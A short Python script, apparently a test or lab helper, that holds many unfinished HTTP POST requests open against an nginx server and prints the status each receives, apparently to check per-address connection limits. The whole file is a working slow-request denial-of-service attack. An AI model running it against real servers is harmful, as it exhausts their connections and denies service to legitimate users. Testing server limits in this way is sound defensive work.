"""Runs on the attacker, as `python3 -c`: requests that never end, one connection after another, slowly.

Fewer in a second than nginx takes from an address, so that it is their number at a time that counts. Arguments: the
address, the host's name, how many. Prints the status that each was answered with.
"""

import sys
import time
from socket import create_connection

EVERY_S = 0.12
"""All of them within nginx's five seconds of patience (lingering_timeout)."""


def main(address: str, name: str, many: str) -> None:
    held = []
    for _ in range(int(many)):
        one = create_connection((address, 80), timeout=5)
        one.sendall(f"POST / HTTP/1.1\r\nHost: {name}\r\nContent-Length: 1000000\r\n\r\n".encode())
        print(one.recv(65536).split()[1].decode())
        held.append(one)
        time.sleep(EVERY_S)


main(*sys.argv[1:])
